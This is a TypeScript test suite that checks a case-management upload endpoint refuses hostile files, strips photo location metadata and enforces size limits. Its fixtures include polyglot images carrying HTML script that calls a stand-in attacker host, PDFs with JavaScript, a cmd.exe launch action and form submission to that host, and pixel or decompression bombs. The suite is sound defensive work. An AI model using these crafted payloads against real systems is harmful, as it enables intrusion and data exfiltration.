import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import type { CaseView, DocumentView } from '@himaya/domain';
import type { Client } from 'pg';
import { startTestApi, type Answer, type Problem, type Session, type TestApi } from '../support/api';
import { aForm, exifWith, jpeg, jpegParts, pdf, png, pngChunk, webp } from '../support/files';
import { expected, openCase } from '../support/main-job';
import { changesNothing, refusal } from '../support/refusals';

let folder: string;
let api: TestApi;
let admin: Client;
let officer: Session;
let kase: CaseView;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'himaya-hostile-files-'));
  api = await startTestApi({ WORKER: 'apart', STORAGE_DIR: folder });
  admin = await api.database.asAdmin();
  officer = await api.signIn('police-officer');
  kase = await openCase(officer);
});
afterAll(async () => {
  await api.stop();
  rmSync(folder, { recursive: true, force: true });
});

const add = <View>(bytes: Buffer, mediaType: string): Promise<Answer<View>> =>
  officer.post<View>(`/cases/${kase.id}/documents`, aForm({ bytes, mediaType, name: 'paper' }));
const files = (): number => readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).length;
const refusedLines = async (): Promise<number> =>
  (await admin.query(`select from audit_event where action = 'document.add' and result = 'refused'`)).rowCount ?? 0;

const archive = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const page = Buffer.from('<script>fetch("https://attacker.invalid")</script>');
/** A stream of objects: packed as PDF packs them, with what a dictionary of ours says of it. */
const objects = (content: Buffer, more = '/Filter /FlateDecode'): Buffer => pdf(`<< /Type /ObjStm /N 1 /First 4 ${more} >>`, content);
const packed = (text: string): Buffer => deflateSync(Buffer.from(text));

describe('a file that is more than it says', () => {
  it.each<[string, Buffer, string, string]>([
    ['a picture with an archive behind it', Buffer.concat([jpeg(), archive]), 'image/jpeg', '422 document.malformed'],
    ['a picture with a page behind it', Buffer.concat([png(), page]), 'image/png', '422 document.malformed'],
    ['a WebP with a page behind it', Buffer.concat([webp(), page]), 'image/webp', '422 document.malformed'],
    ['a PDF with an archive inside', Buffer.concat([pdf().subarray(0, 9), archive, pdf().subarray(9)]), 'application/pdf', '422 document.malformed'],
    ['a PDF with a page inside', Buffer.concat([pdf().subarray(0, 9), page, pdf().subarray(9)]), 'application/pdf', '422 document.malformed'],
    ['a page before a PDF', Buffer.concat([page, pdf()]), 'application/pdf', '415 document.type-refused'],
    ['a PDF that is said to be a picture', pdf(), 'image/png', '422 document.type-differs'],
    ['a page that is said to be a picture', Buffer.concat([page, Buffer.alloc(40)]), 'image/jpeg', '415 document.type-refused'],
    ['a GIF that is a script', Buffer.from('GIF89a/*            */=alert(1)//;'), 'image/gif', '415 document.type-refused'],
    ['a workbook', Buffer.from('PK\x03\x04\x14\0\x06\0[Content_Types].xml', 'latin1'), 'application/pdf', '415 document.type-refused'],
    ['a PNG whose sum is wrong', Buffer.concat([png().subarray(0, -1), Buffer.of(0)]), 'image/png', '422 document.malformed'],
    ['a PNG without its end', png().subarray(0, -12), 'image/png', '422 document.malformed'],
    ['a WebP cut short', webp().subarray(0, -2), 'image/webp', '422 document.malformed'],
    ['a JPEG cut short', jpeg().subarray(0, -2), 'image/jpeg', '422 document.malformed'],
    ['a PDF cut short', pdf().subarray(0, -8), 'application/pdf', '422 document.malformed'],
  ])('is refused, written down and kept nowhere: %s', async (_, bytes, mediaType, problem) => {
    const [kept, written] = [files(), await refusedLines()];
    await changesNothing(admin, async () => expect(refusal(await add<Problem>(bytes, mediaType))).toBe(problem));
    expect({ kept: files(), written: await refusedLines() }).toEqual({ kept, written: written + 1 });
  }); // prettier-ignore
});

describe('a PDF', () => {
  it.each<[string, Buffer, string]>([
    ['that unfolds to more than sixteen mebibytes', objects(packed(`1 0 ${' '.repeat(17 * 1024 * 1024)}`)), '422 document.malformed'],
    ['packed in a way that is not unfolded here', objects(packed('1 0 << >>'), '/Filter /LZWDecode'), '422 document.malformed'],
    ['packed twice', objects(deflateSync(packed('1 0 << >>')), '/Filter [/FlateDecode /FlateDecode]'), '422 document.malformed'],
    ['with a broken stream of objects', objects(Buffer.from('not packed at all')), '422 document.malformed'],
    ['with a script among its packed objects', objects(packed('1 0 << /S /JavaScript /JS (1) >>')), '422 document.active-content'],
    [
      'packed twice, as its dictionary says after a string that looks like an object',
      objects(deflateSync(packed('1 0 << /S /JavaScript >>')), '/Filter [/FlateDecode /FlateDecode] /X (\n1 0 obj <<)'),
      '422 document.malformed',
    ],
    [
      'packed otherwise before a comment that looks like an object',
      objects(Buffer.from('31202f4a'), '/Filter /ASCIIHexDecode %\n1 0 obj <<\n /Type /ObjStm'),
      '422 document.malformed',
    ],
    [
      'with a script among packed objects that are not called so',
      pdf('<< /N 1 /First 4 /Filter /FlateDecode >>', packed('1 0 << /S /JavaScript /JS (1) >>')),
      '422 document.active-content',
    ],
    ['with a script whose name is written in numbers', pdf('<< /S /J#61vaScript /JS (1) >>'), '422 document.active-content'],
    ['that starts a program', pdf('<< /S /Launch /F (cmd.exe) >>'), '422 document.active-content'],
    ['that carries another file', pdf('<< /Type /EmbeddedFile >>', Buffer.from('x')), '422 document.active-content'],
    ['that sends a form', pdf('<< /S /SubmitForm /F (https://attacker.invalid) >>'), '422 document.active-content'],
    ['that is encrypted', pdf('<< /Encrypt 2 0 R >>'), '422 document.encrypted'],
  ])('%s is refused', async (_, bytes, problem) => {
    const kept = files();
    await changesNothing(admin, async () => expect(refusal(await add<Problem>(bytes, 'application/pdf'))).toBe(problem));
    expect(files()).toBe(kept);
  });

  it('with packed objects that do nothing is taken as it is', async () => {
    expect(await add<DocumentView>(objects(packed('1 0 << /Type /Page >>')), 'application/pdf')).toMatchObject({ status: 201 });
    expect(
      await add<DocumentView>(objects(packed('1 0 << /Type /Page >>'), '/Filter[/FlateDecode]/Length 9'), 'application/pdf'),
    ).toMatchObject({ status: 201 });
    expect(
      await add<DocumentView>(objects(Buffer.from('1 0 << /Type /Page >>'), '/Title (of \\(two\\))'), 'application/pdf'),
    ).toMatchObject({ status: 201 });
    const outline = pdf('<< /Type /Outlines /First 2 0 R /Last 2 0 R /FirstChar 32 >>');
    expect(await add<DocumentView>(outline, 'application/pdf')).toMatchObject({ status: 201 });
  });
});

describe('a picture', () => {
  const side = 20_000;
  const sized = (at: number, write: (whole: Buffer) => void, whole: Buffer): Buffer => {
    const changed = Buffer.from(whole);
    write(changed.subarray(at));
    return changed;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const bombs: readonly [string, string, Buffer][] = [
    // A PNG of a few bytes that says it has four hundred million pixels.
    ['PNG', 'image/png', Buffer.concat([png().subarray(0, 8), pngChunk('IHDR', head), png().subarray(33)])],
    ['JPEG', 'image/jpeg', sized(jpeg().indexOf(Buffer.of(0xff, 0xc0)) + 5, (from) => from.writeUInt32BE(side * 65_536 + side), jpeg())],
    ['WebP', 'image/webp', sized(24, (from) => (from.writeUIntLE(side - 1, 0, 3), from.writeUIntLE(side - 1, 3, 3)), webp())],
  ];

  it.each(bombs)('of more pixels than a reader’s machine can hold is refused: %s', async (_, mediaType, bytes) => {
    const kept = files();
    await changesNothing(admin, async () => expect(refusal(await add<Problem>(bytes, mediaType))).toBe('413 document.too-large'));
    expect(files()).toBe(kept);
  });

  it('of as many as a telephone makes is taken', async () => {
    head.writeUInt32BE(10_000, 0);
    const large = Buffer.concat([png().subarray(0, 8), pngChunk('IHDR', head), png().subarray(33)]);
    expect(await add<DocumentView>(large, 'image/png')).toMatchObject({ status: 201 });
  });
});

describe('a picture loses where it was made, and keeps how it is to be shown', () => {
  const place = 'Invented-Place 33.3152N 44.3661E';
  const text = Buffer.from(`Comment\0${place}`);
  const exif = exifWith(place).subarray(6);

  async function stored(bytes: Buffer, mediaType: string): Promise<Buffer> {
    const { id } = expected(await add<DocumentView>(bytes, mediaType), 201);
    const answer = await fetch(`${api.url}/documents/${id}/content`, { headers: { cookie: officer.cookie } });
    return Buffer.from(await answer.arrayBuffer());
  }

  it.each<[string, string, Buffer, Buffer]>([
    ['PNG', 'image/png', png([pngChunk('eXIf', exif), pngChunk('tEXt', text), pngChunk('iTXt', text), pngChunk('prVt', text)]), png()],
    ['WebP', 'image/webp', webp(['EXIF', exif], ['XMP ', text], ['ABCD', text]), webp()],
  ])('%s: nothing is left but the picture', async (_, mediaType, bytes, bare) => {
    expect(bytes.includes('33.3152N')).toBe(true);
    const kept = await stored(bytes, mediaType);
    // A WebP's head announces Exif and XMP, which are gone.
    if (mediaType === 'image/webp') bare[20] = 0;
    expect(kept.toString('hex')).toBe(bare.toString('hex'));
  });

  it('JPEG: the turn of the camera alone is left of what it wrote', async () => {
    const { exif: segment, comment, furtherPictures } = jpegParts;
    const hidden = jpeg(segment(place));
    const kept = await stored(Buffer.concat([jpeg(segment(place), comment(place), furtherPictures), hidden]), 'image/jpeg');
    expect(kept.includes('33.3152N')).toBe(false);
    const tiff = kept.subarray(kept.indexOf('Exif\0\0', 0, 'latin1') + 6);
    expect({ tags: tiff.readUInt16BE(8), tag: tiff.readUInt16BE(10), turn: tiff.readUInt16BE(18) }).toEqual({
      tags: 1,
      tag: 0x0112,
      turn: 6,
    });
    expect(kept.lastIndexOf(Buffer.of(0xff, 0xd8))).toBe(0);
  });
});
